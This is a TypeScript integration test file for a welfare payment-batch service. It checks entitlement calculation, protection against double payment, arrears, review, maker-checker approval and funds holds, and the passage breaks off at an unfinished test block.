import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { testApp } from '../helpers/app';
import { freshTotp, makeUser, lastAudit, type TestUser } from '../helpers/factories';
import { call, get, post } from '../helpers/http';
import { testWorker } from '../helpers/worker';
import { startTestSandbox, useSandboxFor, type TestSandbox } from '../helpers/sandbox';
import { allItems, approveBatch, createBatch, crew, enrol, makeProgramme, waitForCheck, type Crew } from '../helpers/batches';
import { fillLeftOutFacts } from '../../src/components/batches/left-out-facts';
import { areaId } from '../helpers/factories';

describe('payment batches', function () {
  this.timeout(60_000);
  let c: Crew;
  let sandbox: TestSandbox;
  let resetSandbox: () => Promise<void>;

  before(async () => {
    await testApp();
    await testWorker();
    c = await crew();
    sandbox = await startTestSandbox();
    const { infra } = await testApp();
    resetSandbox = (await useSandboxFor(infra.ds, sandbox.url)).reset;
  });

  after(async () => {
    await resetSandbox();
    await sandbox.close();
  });

  describe('generation', () => {
    it('pays every due enrolment its entitlement for the month, across a base-level change mid-year', async () => {
      const prog = await makeProgramme([
        ['2024-01', 360_000],
        ['2024-07', 500_000],
      ]);
      const a = await enrol(prog.id, { coefficientX100: 150 });
      const b = await enrol(prog.id, { coefficientX100: 250, area: '00037', channel: 'WALLET', walletProvider: 'MOMO' });
      const cash = await enrol(prog.id, { coefficientX100: 100, area: '00091', channel: 'CASH' });
      await enrol(prog.id, { start: '2024-08' }); // not yet due in July
      await enrol(prog.id, { start: '2024-01', end: '2024-06' }); // ended before July
      await enrol(prog.id, { status: 'suspended' });

      const june = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-06', areaId: await areaId('01') });
      expect(june.status).to.equal('draft');
      expect(june.itemCount).to.equal(4); // a, b, cash and the one ending in June; not the one starting in August nor the suspended one
      const juneItems = await allItems(c.staff.token, june.id);
      const amountOf = (items: any[], enrolmentId: string) => items.find((i) => i.enrolmentId === enrolmentId)?.amount;
      expect(amountOf(juneItems, a.enrolmentId)).to.equal(540_000); // 360,000 × 1.5
      expect(amountOf(juneItems, b.enrolmentId)).to.equal(900_000); // 360,000 × 2.5
      expect(amountOf(juneItems, cash.enrolmentId)).to.equal(360_000);

      const july = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-07', areaId: await areaId('01') });
      const julyItems = await allItems(c.staff.token, july.id);
      expect(julyItems).to.have.length(3);
      expect(amountOf(julyItems, a.enrolmentId)).to.equal(750_000); // 500,000 × 1.5
      expect(amountOf(julyItems, b.enrolmentId)).to.equal(1_250_000);
      expect(amountOf(julyItems, cash.enrolmentId)).to.equal(500_000);
      expect(july.totalAmount).to.equal(2_500_000);
      // references: unique, the batch prefix, the provider's idempotency key format
      for (const i of julyItems) expect(i.reference).to.match(new RegExp(`^${july.referencePrefix}-\\d+$`));
      expect(new Set(julyItems.map((i) => i.reference)).size).to.equal(3);
      // destination as it stood, masked
      const wallet = julyItems.find((i) => i.enrolmentId === b.enrolmentId);
      expect(wallet).to.include({ channel: 'WALLET', walletProvider: 'MOMO', accountName: 'NGUYEN VAN AN' });
      expect(wallet.destination).to.match(/\*/);
    });

    it('rounds half up in integer đồng and pays a one-off programme only in its start month', async () => {
      const prog = await makeProgramme([['2024-01', 333_333]]);
      const a = await enrol(prog.id, { coefficientX100: 150 });
      const batch = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-03', areaId: await areaId('01') });
      const [item] = await allItems(c.staff.token, batch.id);
      expect(item.enrolmentId).to.equal(a.enrolmentId);
      expect(item.amount).to.equal(500_000); // 499,999.5 rounded half up

      const once = await makeProgramme([['2024-01', 1_000_000]], 'one_off');
      await enrol(once.id, { start: '2024-05', coefficientX100: 100 });
      const may = await createBatch(c.staff.token, { programmeId: once.id, period: '2024-05', areaId: await areaId('01') });
      expect(may.itemCount).to.equal(1);
      const june = await createBatch(c.staff.token, { programmeId: once.id, period: '2024-06', areaId: await areaId('01') });
      expect(june.itemCount).to.equal(0);
    });

    it('refuses a month without a base level, an area outside the caller, and bad input, writing nothing', async () => {
      const prog = await makeProgramme([['2024-07', 500_000]]);
      await enrol(prog.id);
      const before = await get(`/batches?programmeId=${prog.id}`, c.staff.token);
      const noLevel = await post('/batches', { programmeId: prog.id, period: '2024-06', areaId: await areaId('01') }, c.staff.token);
      expect(noLevel.status).to.equal(409);
      expect(noLevel.body.error.code).to.equal('NO_BASE_LEVEL');
      const ward = await makeUser(['staff'], { area: '002' });
      const outside = await post('/batches', { programmeId: prog.id, period: '2024-07', areaId: await areaId('001') }, ward.token);
      expect(outside.status).to.equal(403);
      expect(outside.body.error.code).to.equal('AREA_OUT_OF_SCOPE');
      const bad = await post('/batches', { programmeId: prog.id, period: '2024-13', areaId: 'x' }, c.staff.token);
      expect(bad.status).to.equal(400);
      expect(JSON.stringify(bad.body.error.details)).to.include('period').and.include('areaId');
      const range = await post(
        '/batches',
        { programmeId: prog.id, period: '2024-07', periodTo: '2024-08', areaId: await areaId('01') },
        c.staff.token,
      );
      expect(range.status).to.equal(400);
      expect(range.body.error.code).to.equal('PERIOD_RANGE_NOT_ALLOWED');
      const approverTry = await post('/batches', { programmeId: prog.id, period: '2024-07', areaId: await areaId('01') }, c.approver.token);
      expect(approverTry.status).to.equal(403);
      const after = await get(`/batches?programmeId=${prog.id}`, c.staff.token);
      expect(after.body.totals.count).to.equal(before.body.totals.count);
    });
  });

  describe('no one is owed twice', () => {
    it('leaves out, with the batch that holds them, people already in a live payment for the month', async () => {
      const prog = await makeProgramme();
      const inBaDinh = await enrol(prog.id, { area: '00001' });
      const inHoanKiem = await enrol(prog.id, { area: '00037' });
      const district = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
      expect(district.itemCount).to.equal(1);
      const province = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      expect(province.itemCount).to.equal(1);
      expect(province.leftOutCount).to.equal(1);
      const [item] = await allItems(c.staff.token, province.id);
      expect(item.enrolmentId).to.equal(inHoanKiem.enrolmentId);
      const left = await get(`/batches/${province.id}/left-out`, c.staff.token);
      expect(left.body.items).to.have.length(1);
      const [held] = await allItems(c.staff.token, district.id);
      // the reason is a code and its facts are values, for the console to word; the sentence stays for the raw API
      expect(left.body.items[0]).to.include({
        enrolmentId: inBaDinh.enrolmentId,
        reason: 'already_in_batch',
        otherBatchId: district.id,
        otherReference: held.reference,
        period: '2024-12',
        owed: null,
        paidInLivePayments: null,
        retriedReference: null,
        retriedStatus: null,
      });

      // cancelling the first batch frees the month: a new batch pays them
      const cancel = await post(`/batches/${district.id}/cancel`, { reason: 'wrong area' }, c.staff.token);
      expect(cancel.body.status).to.equal('cancelled');
      const again = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
      expect(again.itemCount).to.equal(1);
    });

    it('is a unique constraint in the database, not only a rule in code', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id);
      const batch = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-11', areaId: await areaId('01') });
      const { infra } = await testApp();
      let error: unknown;
      try {
        await infra.ds.query(
          `INSERT INTO payments (batch_id, seq, reference, kind, beneficiary_id, enrolment_id, programme_id, period, slot, live, amount, base_level,
             coefficient_x100, area_id, full_name, channel)
           SELECT batch_id, seq + 1000, CONCAT(reference, 'x'), kind, beneficiary_id, enrolment_id, programme_id, period, slot, live, amount,
             base_level, coefficient_x100, area_id, full_name, channel FROM payments WHERE batch_id = ?`,
          [batch.id],
        );
      } catch (e) {
        error = e;
      }
      expect((error as { code?: string }).code).to.equal('ER_DUP_ENTRY');
    });
  });

  describe('left-out facts', () => {
    it('fills the facts of rows written before they were columns from their sentence, and leaves other sentences alone', async () => {
      const { infra } = await testApp();
      await infra.ds.transaction(async (em) => {
        await em.query('CREATE TEMPORARY TABLE left_out_before LIKE batch_left_out');
        try {
          await em.query(
            `INSERT INTO left_out_before (batch_id, enrolment_id, period, beneficiary_id, reason, detail) VALUES
              (1, 1, 202407, 1, 'payment_not_final', 'owed 750000, in live payments 540000'),
              (1, 2, 202407, 2, 'overpaid', 'owed 0, in live payments -5'),
              (1, 3, 202412, 3, 'not_active', 'payment B7-ABC-12 failed'),
              (1, 4, 202412, 4, 'already_in_batch', 'payment B7-ABC-13 returned'),
              (1, 5, 202412, 5, 'already_in_batch', NULL),
              (1, 6, 202412, 6, 'not_active', 'payment B7-ABC-14 pending'),
              (1, 7, 202412, 7, 'not_paid', 'owed lots')`,
          );
          await fillLeftOutFacts(em, 'left_out_before');
          const rows = (await em.query(
            'SELECT enrolment_id, owed, paid_live, retried_reference, retried_status FROM left_out_before ORDER BY enrolment_id',
          )) as { owed: string | null; paid_live: string | null; retried_reference: string | null; retried_status: string | null }[];
          expect(
            rows.map((r) => [
              r.owed === null ? null : Number(r.owed),
              r.paid_live === null ? null : Number(r.paid_live),
              r.retried_reference,
              r.retried_status,
            ]),
          ).to.deep.equal([
            [750_000, 540_000, null, null],
            [0, -5, null, null],
            [null, null, 'B7-ABC-12', 'failed'],
            [null, null, 'B7-ABC-13', 'returned'],
            [null, null, null, null],
            [null, null, null, null],
            [null, null, null, null],
          ]);
        } finally {
          await em.query('DROP TEMPORARY TABLE left_out_before');
        }
      });
    });
  });

  describe('arrears', () => {
    it('pays exactly the difference for each month already paid, once', async () => {
      const prog = await makeProgramme([['2024-01', 360_000]]);
      const a = await enrol(prog.id, { coefficientX100: 150 });
      const b = await enrol(prog.id, { coefficientX100: 200, area: '00037' });
      const all = await areaId('01');
      for (const period of ['2024-07', '2024-08']) {
        const batch = await createBatch(c.staff.token, { programmeId: prog.id, period, areaId: all });
        await approveBatch(c, batch.id);
      }
      // September is still a draft: its arrears are not due yet
      await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-09', areaId: all });
      // the new level applies from July, after July and August were paid
      const { infra } = await testApp();
      await infra.ds.query('INSERT INTO programme_base_levels (programme_id, effective_from, amount) VALUES (?, 202407, 500000)', [
        prog.id,
      ]);

      const arrears = await createBatch(c.staff.token, {
        programmeId: prog.id,
        kind: 'arrears',
        period: '2024-07',
        periodTo: '2024-09',
        areaId: all,
      });
      expect(arrears.kind).to.equal('arrears');
      const items = await allItems(c.staff.token, arrears.id);
      expect(items).to.have.length(4);
      const of = (e: string, p: string) => items.find((i) => i.enrolmentId === e && i.period === p);
      expect(of(a.enrolmentId, '2024-07')).to.include({ amount: 210_000, paidBefore: 540_000, kind: 'arrears' }); // 750,000 − 540,000
      expect(of(a.enrolmentId, '2024-08')).to.include({ amount: 210_000 });
      expect(of(b.enrolmentId, '2024-07')).to.include({ amount: 280_000, paidBefore: 720_000 }); // 1,000,000 − 720,000
      expect(arrears.totalAmount).to.equal(980_000);
      const left = await get(`/batches/${arrears.id}/left-out`, c.staff.token);
      // September: owed 750,000 and 1,000,000 at the new level, 540,000 and 720,000 in its draft batch
      expect(left.body.items.map((l: any) => [l.reason, l.owed, l.paidInLivePayments, l.otherBatchId])).to.deep.equal([
        ['payment_not_final', 750_000, 540_000, null],
        ['payment_not_final', 1_000_000, 720_000, null],
      ]);
      expect(left.body.items[0].detail).to.equal('owed 750000, in live payments 540000');

      // once: a second arrears batch over the same months finds nothing more owed
      const second = await createBatch(c.staff.token, {
        programmeId: prog.id,
        kind: 'arrears',
        period: '2024-07',
        periodTo: '2024-08',
        areaId: all,
      });
      expect(second.itemCount).to.equal(0);
      // a coefficient raised later is owed only its own difference, on top of both payments
      await infra.ds.query('UPDATE enrolments SET coefficient_x100 = 250 WHERE id = ?', [a.enrolmentId]);
      await approveBatch(c, arrears.id);
      const third = await createBatch(c.staff.token, {
        programmeId: prog.id,
        kind: 'arrears',
        period: '2024-07',
        periodTo: '2024-08',
        areaId: all,
      });
      const thirdItems = await allItems(c.staff.token, third.id);
      expect(thirdItems.map((i) => [i.period, i.amount, i.paidBefore])).to.deep.equal([
        ['2024-07', 500_000, 750_000], // 1,250,000 − (540,000 + 210,000)
        ['2024-08', 500_000, 750_000],
      ]);
    });
  });

  describe('review', () => {
    it('stops the totals read on the database when the client leaves before the answer, and the next reader is answered', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id, { area: '00001' });
      const batch = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      const { infra, url } = await testApp();
      const running = async () =>
        (await infra.ds.query(
          "SELECT ID FROM information_schema.PROCESSLIST WHERE DB = DATABASE() AND INFO LIKE 'SELECT review, area_id%'",
        )) as unknown[];
      const until = async (what: string, ok: () => Promise<boolean>) => {
        for (const end = Date.now() + 5000; !(await ok());) {
          if (Date.now() > end) throw new Error(`timed out waiting: ${what}`);
          await new Promise((r) => setTimeout(r, 50));
        }
      };
      // a write lock makes the read wait on the database as long as a scan of a million items would run
      const locker = infra.ds.createQueryRunner();
      await locker.connect();
      await locker.query('LOCK TABLES payments WRITE');
      try {
        const client = new AbortController();
        const request = fetch(`${url}/api/v1/batches/${batch.id}/totals`, {
          headers: { authorization: `Bearer ${c.auditor.token}` },
          signal: client.signal,
        }).catch((e: unknown) => e);
        await until('the totals read to start', async () => (await running()).length === 1);
        client.abort();
        expect(await request).to.be.instanceOf(Error);
        await until('the totals read to be stopped', async () => (await running()).length === 0);
      } finally {
        await locker.query('UNLOCK TABLES');
        await locker.release();
      }
      const again = await get(`/batches/${batch.id}/totals`, c.auditor.token);
      expect(again.status).to.equal(200);
      expect(again.body.included.count).to.equal(1);
    });

    it('excludes and holds items with a reason, and totals by area, channel and bank', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id, { area: '00001', bankBin: '970436' });
      await enrol(prog.id, { area: '00001', bankBin: '970415' });
      await enrol(prog.id, { area: '00037', channel: 'WALLET', walletProvider: 'MOMO' });
      await enrol(prog.id, { area: '00037', channel: 'CASH' });
      const batch = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      const items = await allItems(c.staff.token, batch.id);
      expect(batch.totalAmount).to.equal(4 * 750_000);

      const noReason = await post(`/batches/${batch.id}/items/review`, { action: 'exclude', seqs: [items[0].seq] }, c.staff.token);
      expect(noReason.status).to.equal(400);
      expect(noReason.body.error.code).to.equal('REASON_REQUIRED');
      const foreign = await post(`/batches/${batch.id}/items/review`, { action: 'hold', seqs: [999999], reason: 'x' }, c.staff.token);
      expect(foreign.status).to.equal(400);
      expect(foreign.body.error.code).to.equal('ITEM_NOT_IN_BATCH');

      const ex = await post(
        `/batches/${batch.id}/items/review`,
        { action: 'exclude', seqs: [items[0].seq], reason: 'đã chuyển đi' },
        c.staff2.token,
      );
      expect(ex.status, JSON.stringify(ex.body)).to.equal(200);
      expect(ex.body.changed).to.equal(1);
      expect(ex.body.batch).to.include({ itemCount: 3, excludedCount: 1, totalAmount: 3 * 750_000, version: batch.version + 1 });
      const hold = await post(
        `/batches/${batch.id}/items/review`,
        { action: 'hold', seqs: [items[1].seq], reason: 'chờ xác minh' },
        c.staff.token,
      );
      expect(hold.body.batch).to.include({ itemCount: 2, heldCount: 1 });
      expect((await lastAudit('batch.items_hold')).entity_id).to.equal(batch.id);

      const totals = await get(`/batches/${batch.id}/totals`, c.auditor.token);
      expect(totals.status).to.equal(200);
      expect(totals.body.included).to.deep.equal({ count: 2, amount: 1_500_000 });
      expect(totals.body.held).to.deep.equal({ count: 1, amount: 750_000 });
      expect(totals.body.excluded).to.deep.equal({ count: 1, amount: 750_000 });
      expect(totals.body.byChannel).to.deep.equal([
        { channel: 'CASH', count: 1, amount: 750_000 },
        { channel: 'WALLET', count: 1, amount: 750_000 },
      ]);
      expect(totals.body.byArea.map((a: any) => a.areaCode)).to.deep.equal(['00037']);
      expect(totals.body.byBank).to.deep.equal([{ channel: 'WALLET', code: 'MOMO', name: 'MoMo', count: 1, amount: 750_000 }]);
      const held = await get(`/batches/${batch.id}/items?review=held`, c.staff.token);
      expect(held.body.items.map((i: any) => [i.seq, i.reviewReason])).to.deep.equal([[items[1].seq, 'chờ xác minh']]);

      // the excluded month is free at once: a new batch pays that person
      const other = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      expect(other.itemCount).to.equal(1);
      // and so cannot be included again here
      const back = await post(`/batches/${batch.id}/items/review`, { action: 'include', seqs: [items[0].seq] }, c.staff.token);
      expect(back.status).to.equal(409);
      expect(back.body.error.code).to.equal('ITEM_SLOT_TAKEN');
      // the held one can
      const unhold = await post(`/batches/${batch.id}/items/review`, { action: 'include', seqs: [items[1].seq] }, c.staff.token);
      expect(unhold.body.batch).to.include({ itemCount: 3, heldCount: 0 });
    });

    it('flags name mismatches and accounts the provider says are closed or unknown', async () => {
      const prog = await makeProgramme();
      const ok = await enrol(prog.id, { fullName: 'Trần Thị Bình', accountName: 'TRAN THI BINH' });
      sandbox.ledger.registerAccount({ type: 'BANK_ACCOUNT', bankCode: '970436', accountNumber: ok.account }, 'Trần Thị Bình');
      const mismatch = await enrol(prog.id, { fullName: 'Lê Văn Cường', accountName: 'LE VAN CUONG', nameMismatch: true });
      const closed = await enrol(prog.id, { account: '1234569999' });
      const missing = await enrol(prog.id, { account: '1234560000' });
      const otherHolder = await enrol(prog.id, { fullName: 'Phạm Văn Dũng', accountName: 'PHAM VAN DUNG' });
      sandbox.ledger.registerAccount({ type: 'BANK_ACCOUNT', bankCode: '970436', accountNumber: otherHolder.account }, 'Hoàng Văn Em');
      const cash = await enrol(prog.id, { channel: 'CASH' });
      const batch = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      expect(batch.accountCheck.status).to.equal('done');
      // the counts as numbers, beside the English sentence: the five bank accounts, none failed
      expect(batch.accountCheck).to.include({ checked: 5, failed: 0, firstError: null, detail: '5 accounts checked' });
      const items = await allItems(c.staff.token, batch.id);
      const by = (e: { enrolmentId: string }) => items.find((i) => i.enrolmentId === e.enrolmentId);
      expect(by(ok)).to.include({ flagged: false, lookupStatus: 'ACTIVE', lookupName: 'TRAN THI BINH' });
      expect(by(mismatch)).to.include({ flagged: true, nameMismatch: true });
      expect(by(closed)).to.include({ flagged: true, lookupStatus: 'CLOSED' });
      expect(by(missing)).to.include({ flagged: true, lookupStatus: 'NOT_FOUND' });
      expect(by(otherHolder)).to.include({ flagged: true, lookupStatus: 'ACTIVE', lookupName: 'HOANG VAN EM' });
      expect(by(cash)).to.include({ flagged: false, lookupStatus: null });
      expect(batch.flaggedCount).to.equal(4);
      const flagged = await get(`/batches/${batch.id}/items?flagged=true`, c.staff.token);
      expect(flagged.body.items).to.have.length(4);
    });
  });

  describe('states and maker-checker', () => {
    async function draft(): Promise<any> {
      const prog = await makeProgramme();
      await enrol(prog.id, { area: '00001' });
      await enrol(prog.id, { area: '00004' });
      return createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('001') });
    }

    it('walks draft → submitted → rejected → submitted → approved → scheduled, recording who, when and why', async () => {
      const b = await draft();
      const sub = await post(`/batches/${b.id}/submit`, { note: 'tháng 12' }, c.staff.token);
      expect(sub.body).to.include({ status: 'submitted', submittedBy: c.staff.username });
      const rej = await post(`/batches/${b.id}/reject`, { reason: 'thiếu phường Cống Vị' }, c.approver.token);
      expect(rej.body).to.include({ status: 'rejected', statusReason: 'thiếu phường Cống Vị' });
      // rejected: back to staff, who may edit and submit again
      const items = await allItems(c.staff.token, b.id);
      await post(`/batches/${b.id}/items/review`, { action: 'hold', seqs: [items[0].seq], reason: 'chờ' }, c.staff2.token);
      const resub = await post(`/batches/${b.id}/submit`, {}, c.staff.token);
      expect(resub.body.status).to.equal('submitted');
      const ok = await post(
        `/batches/${b.id}/approve`,
        { itemCount: resub.body.itemCount, totalAmount: resub.body.totalAmount, totp: await freshTotp(c.approver) },
        c.approver.token,
      );
      expect(ok.status, JSON.stringify(ok.body)).to.equal(200);
      expect(ok.body).to.include({ status: 'approved', approvedBy: c.approver.username });
      const at = new Date(Date.now() + 3600_000);
      const sch = await post(`/batches/${b.id}/schedule`, { at: at.toISOString() }, c.staff.token);
      expect(sch.body.status).to.equal('scheduled');
      expect(new Date(sch.body.scheduledFor).getTime()).to.equal(at.getTime());
      expect(sch.body.scheduledFor).to.match(/\+07:00$/);
      const tr = await get(`/batches/${b.id}/transitions`, c.auditor.token);
      expect(tr.body.map((t: any) => [t.from, t.to, t.actor])).to.deep.equal([
        [null, 'draft', c.staff.username],
        ['draft', 'submitted', c.staff.username],
        ['submitted', 'rejected', c.approver.username],
        ['rejected', 'submitted', c.staff.username],
        ['submitted', 'approved', c.approver.username],
        ['approved', 'scheduled', c.staff.username],
      ]);
      expect(tr.body[2].reason).to.equal('thiếu phường Cống Vị');
      expect(tr.body[4].itemCount).to.equal(1);
      expect((await lastAudit('batch.approve')).entity_id).to.equal(b.id);
      const cancel = await post(`/batches/${b.id}/cancel`, { reason: 'hoãn' }, c.staff.token);
      expect(cancel.body.status).to.equal('cancelled');
    });

    it('refuses every illegal move with BATCH_ILLEGAL_TRANSITION', async () => {
      const b = await draft();
      const attempt = async (action: string, token: string, body: object = {}) => post(`/batches/${b.id}/${action}`, body, token);
      const expectIllegal = async (action: string, token: string, body: object = {}) => {
        const r = await attempt(action, token, body);
        expect(r.status, `${action}: ${JSON.stringify(r.body)}`).to.equal(409);
        expect(r.body.error.code).to.equal('BATCH_ILLEGAL_TRANSITION');
        return r;
      };
      const totals = async () => ({ itemCount: b.itemCount, totalAmount: b.totalAmount, totp: await freshTotp(c.approver) });
      // draft
      const r = await expectIllegal('approve', c.approver.token, await totals());
      expect(r.body.error.details).to.deep.include({ status: 'draft', action: 'approve' });
      expect(r.body.error.details.allowed).to.have.members(['submit', 'cancel']);
      await expectIllegal('reject', c.approver.token, { reason: 'x' });
      await expectIllegal('schedule', c.staff.token, { at: new Date(Date.now() + 60_000).toISOString() });
      await expectIllegal('release', c.staff.token);
      // submitted
      await attempt('submit', c.staff.token);
      await expectIllegal('submit', c.staff.token);
      await expectIllegal('schedule', c.staff.token, { at: new Date(Date.now() + 60_000).toISOString() });
      await expectIllegal('release', c.staff.token);
      const items = await allItems(c.staff.token, b.id);
      const edit = await post(`/batches/${b.id}/items/review`, { action: 'exclude', seqs: [items[0].seq], reason: 'x' }, c.staff.token);
      expect(edit.status).to.equal(409);
      expect(edit.body.error.code).to.equal('BATCH_NOT_EDITABLE');
      // approved
      await attempt('approve', c.approver.token, await totals());
      await expectIllegal('approve', c.approver.token, await totals());
      await expectIllegal('reject', c.approver.token, { reason: 'x' });
      await expectIllegal('submit', c.staff.token);
      // cancelled: nothing more
      await attempt('cancel', c.staff.token, { reason: 'x' });
      for (const a of ['submit', 'cancel', 'release']) await expectIllegal(a, c.staff.token, a === 'cancel' ? { reason: 'x' } : {});
      await expectIllegal('approve', c.approver.token, await totals());
    });

    it('never lets a maker approve, even an admin who is also an approver', async () => {
      const both = await makeUser(['admin', 'approver', 'staff']);
      const prog = await makeProgramme();
      await enrol(prog.id);
      const b = await createBatch(both.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      const sub = await post(`/batches/${b.id}/submit`, {}, c.staff.token);
      const own = await post(
        `/batches/${b.id}/approve`,
        { itemCount: sub.body.itemCount, totalAmount: sub.body.totalAmount, totp: await freshTotp(both) },
        both.token,
      );
      expect(own.status).to.equal(403);
      expect(own.body.error.code).to.equal('SELF_APPROVAL');
      const ownReject = await post(`/batches/${b.id}/reject`, { reason: 'x' }, both.token);
      expect(ownReject.body.error.code).to.equal('SELF_APPROVAL');
      // the submitter neither (a staff member who is also an approver)
      const submitter = await makeUser(['staff', 'approver']);
      const prog2 = await makeProgramme();
      await enrol(prog2.id);
      const b2 = await createBatch(c.staff.token, { programmeId: prog2.id, period: '2024-12', areaId: await areaId('01') });
      const sub2 = await post(`/batches/${b2.id}/submit`, {}, submitter.token);
      const r2 = await post(
        `/batches/${b2.id}/approve`,
        { itemCount: sub2.body.itemCount, totalAmount: sub2.body.totalAmount, totp: await freshTotp(submitter) },
        submitter.token,
      );
      expect(r2.body.error.code).to.equal('SELF_APPROVAL');
      // nor someone who reviewed items
      const prog3 = await makeProgramme();
      await enrol(prog3.id);
      await enrol(prog3.id);
      const reviewer = await makeUser(['staff', 'approver']);
      const b3 = await createBatch(c.staff.token, { programmeId: prog3.id, period: '2024-12', areaId: await areaId('01') });
      const items = await allItems(c.staff.token, b3.id);
      await post(`/batches/${b3.id}/items/review`, { action: 'hold', seqs: [items[0].seq], reason: 'x' }, reviewer.token);
      const sub3 = await post(`/batches/${b3.id}/submit`, {}, c.staff.token);
      const r3 = await post(
        `/batches/${b3.id}/approve`,
        { itemCount: sub3.body.itemCount, totalAmount: sub3.body.totalAmount, totp: await freshTotp(reviewer) },
        reviewer.token,
      );
      expect(r3.body.error.code).to.equal('SELF_APPROVAL');
      // a plain staff member cannot approve at all
      const staffTry = await post(
        `/batches/${b3.id}/approve`,
        { itemCount: sub3.body.itemCount, totalAmount: sub3.body.totalAmount, totp: '123456' },
        c.staff2.token,
      );
      expect(staffTry.status).to.equal(403);
      // the checker can
      const ok = await post(
        `/batches/${b.id}/approve`,
        { itemCount: sub.body.itemCount, totalAmount: sub.body.totalAmount, totp: await freshTotp(c.approver) },
        c.approver.token,
      );
      expect(ok.body.status).to.equal('approved');
    });

    it('refuses an approver whose scope does not cover the whole batch area', async () => {
      const b = await draft(); // district 001 (Ba Đình)
      const sub = await post(`/batches/${b.id}/submit`, {}, c.staff.token);
      const seen = async (u: TestUser) => ({ itemCount: sub.body.itemCount, totalAmount: sub.body.totalAmount, totp: await freshTotp(u) });
      const otherDistrict = await makeUser(['approver'], { area: '002' });
      const r1 = await post(`/batches/${b.id}/approve`, await seen(otherDistrict), otherDistrict.token);
      expect(r1.status).to.equal(404); // they cannot even see it
      const ward = await makeUser(['approver'], { area: '00001' }); // inside the district, but not all of it
      const r2 = await post(`/batches/${b.id}/approve`, await seen(ward), ward.token);
      expect(r2.status).to.equal(404); // a batch reaching beyond the caller's scope is not theirs to see, let alone approve
      const district = await makeUser(['approver'], { area: '001' });
      const ok = await post(`/batches/${b.id}/approve`, await seen(district), district.token);
      expect(ok.status, JSON.stringify(ok.body)).to.equal(200);
    });

    it('refuses an approval carrying totals the batch no longer has', async () => {
      const b = await draft();
      const sub = await post(`/batches/${b.id}/submit`, {}, c.staff.token);
      await post(`/batches/${b.id}/reject`, { reason: 'sửa' }, c.approver.token);
      const items = await allItems(c.staff.token, b.id);
      await post(`/batches/${b.id}/items/review`, { action: 'exclude', seqs: [items[0].seq], reason: 'x' }, c.staff.token);
      await post(`/batches/${b.id}/submit`, {}, c.staff.token);
      const stale = await post(
        `/batches/${b.id}/approve`,
        { itemCount: sub.body.itemCount, totalAmount: sub.body.totalAmount, totp: await freshTotp(c.approver) },
        c.approver.token,
      );
      expect(stale.status).to.equal(409);
      expect(stale.body.error.code).to.equal('BATCH_CHANGED');
      expect(stale.body.error.details.current).to.include({ itemCount: 1, totalAmount: 750_000 });
      const staleVersion = await post(
        `/batches/${b.id}/approve`,
        { itemCount: 1, totalAmount: 750_000, version: sub.body.version, totp: await freshTotp(c.approver) },
        c.approver.token,
      );
      expect(staleVersion.body.error.code).to.equal('BATCH_CHANGED');
      const ok = await post(
        `/batches/${b.id}/approve`,
        { itemCount: 1, totalAmount: 750_000, totp: await freshTotp(c.approver) },
        c.approver.token,
      );
      expect(ok.body.status).to.equal('approved');
    });
  });

  describe('release and funds', () => {
    it('releases at once when the float covers the batch, assigning each payment its provider', async () => {
      const prog = await makeProgramme();
      await enrol(prog.id);
      await enrol(prog.id, { channel: 'CASH' });
      const b = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
      await approveBatch(c, b.id);
      const r = await post(`/batches/${b.id}/release`, {}, c.staff.token);
      expect(r.status, JSON.stringify(r.body)).to.equal(200);
      expect(r.body).to.include({ status: 'processing', fundsHold: null });
      const tr = await get(`/batches/${b.id}/transitions`, c.staff.token);
      expect(tr.body.slice(-2).map((t: any) => t.to)).to.deep.equal(['scheduled', 'processing']);
      const { infra } = await testApp();
      const rows = (await infra.ds.query(
        'SELECT p.channel, pv.name FROM payments p JOIN providers pv ON pv.id = p.provider_id WHERE p.batch_id = ? ORDER BY p.channel',
        [b.id],
      )) as { channel: string; name: string }[];
      expect(rows).to.deep.equal([
        { channel: 'BANK', name: 'sandbox' },
        { channel: 'CASH', name: 'cash-paypoints' },
      ]);
    });

    it("holds the batch with a clear reason when a provider's float is short", async () => {
      const poor = await startTestSandbox({ initialFloat: 1_000_000 });
      const { infra } = await testApp();
      const { reset } = await useSandboxFor(infra.ds, poor.url);
      try {
        const prog = await makeProgramme();
        await enrol(prog.id);
        await enrol(prog.id);
        const b = await createBatch(c.staff.token, { programmeId: prog.id, period: '2024-12', areaId: await areaId('01') });
        await approveBatch(c, b.id);
        const r = await post(`/batches/${b.id}/release`, {}, c.staff.token);
        expect(r.status).to.equal(200);
        expect(r.body.status).to.equal('scheduled');
        // the float as read at release: the 1.000.000 đ it started with (the payments of earlier tests still open are
        // fenced off while this sandbox is the provider's: none spent any of it), short of the 1.500.000 đ needed
        const float = /float at sandbox is ([\d.]+) đ/.exec(r.body.fundsHold.reason);
        expect(float, r.body.fundsHold.reason).to.not.equal(null);
        expect(Number(float![1]!.replace(/\./g, ''))).to.equal(1_000_000);
        expect(r.body.fundsHold.reason).to.include('1.500.000 đ');
        expect((await lastAudit('batch.funds_hold')).entity_id).to.equal(b.id);
        const pending = (await infra.ds.query('SELECT COUNT(*) AS n FROM payments WHERE batch_id = ? AND provider_id IS NOT NULL', [
          b.id,
        ])) as {
          n: string;
        }[];
        expect(Number(pending[0]!.n)).to.equal(0);
      } finally {
        await reset();
        await poor.close();
      }
    });
  });

  describe('idempotent writes', () => {
